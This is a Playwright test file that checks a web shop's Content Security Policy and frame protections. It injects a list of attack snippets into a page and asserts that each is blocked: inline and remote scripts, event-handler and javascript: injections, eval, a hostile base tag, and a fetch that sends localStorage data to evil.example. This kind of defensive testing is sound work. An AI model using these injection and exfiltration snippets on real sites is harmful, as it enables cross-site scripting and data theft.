import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from './support/test.ts';

/** Text, because it runs in the page and the tests are compiled without a browser's types. */
const attempts: Record<string, string> = {
  'a script in the page': `document.head.append(Object.assign(document.createElement('script'), { text: 'window.ran = true' }))`,
  'a script of another site': `document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))`,
  'a handler in an attribute': `document.body.insertAdjacentHTML('beforeend', '<img src="/favicon.svg" onload="window.ran = true">')`,
  'text as code': `try { window.eval('window.ran = true') } catch {}`,
  'a javascript: link': `{ const a = Object.assign(document.createElement('a'), { href: 'javascript:window.ran=true' }); document.body.append(a); a.click() }`,
  'a style sheet in the page': `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))`,
  'another base for addresses': `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
  'a frame of another site': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
  'a plug-in': `document.body.append(Object.assign(document.createElement('object'), { data: '/favicon.svg' }))`,
  'a form to another site': `{ const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' }); document.body.append(form); form.submit() }`,
  'what somebody stole': `fetch('https://evil.example/?' + localStorage.length).catch(() => {})`,
  'a picture that is not encrypted': `new Image().src = 'http://evil.example/a.png'`,
};

/** Runs code in the page with the page's own restrictions; returns the directive that blocked it. */
const tryOut = (page: Page, code: string) =>
  page.evaluate<string>(
    `new Promise((resolve) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
      setTimeout(() => { ${code} });
      setTimeout(() => resolve('nothing'), 5_000);
    })`,
  );

test('when foreign code gets into a page, then the browser does not run it', async ({ browser }) => {
  // A browser page without the fixture's complaints, because violations are expected here.
  const page = await browser.newPage();
  const stopped: Record<string, string> = {};
  for (const [what, code] of Object.entries(attempts)) {
    await page.goto('/about');
    stopped[what] = await tryOut(page, code);
    expect(await page.evaluate('window.ran'), what).toBeUndefined();
  }
  expect(stopped).toEqual({
    'a script in the page': 'script-src-elem',
    'a script of another site': 'script-src-elem',
    'a handler in an attribute': 'script-src-attr',
    'text as code': 'script-src',
    'a javascript: link': 'script-src-elem',
    'a style sheet in the page': 'style-src-elem',
    'another base for addresses': 'base-uri',
    'a frame of another site': 'frame-src',
    'a plug-in': 'object-src',
    'a form to another site': 'form-action',
    'what somebody stole': 'connect-src',
    'a picture that is not encrypted': 'img-src',
  });
  await page.close();
});

test('when another site embeds the shop in a frame, then the frame stays empty', async ({ browser, baseURL }) => {
  // Firebase's own responses may be framed, which shows that this setup can frame pages.
  const frames = ['/__/firebase/init.json', '/login'].map((path) => `<iframe src="${baseURL}${path}"></iframe>`);
  // The framing page must come from a local server, because browsers let no remote page frame a local one, whatever the
  // headers allow.
  const other = createServer((_req, res) => res.setHeader('Content-Type', 'text/html').end(frames.join('')));
  await once(other.listen(0, '127.0.0.1'), 'listening');
  const page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
  await expect(page.locator('iframe').first().contentFrame().locator('body')).toContainText('projectId');
  await expect(page.locator('iframe').last().contentFrame().locator('form')).toHaveCount(0);
  await page.close();
  other.close();
});
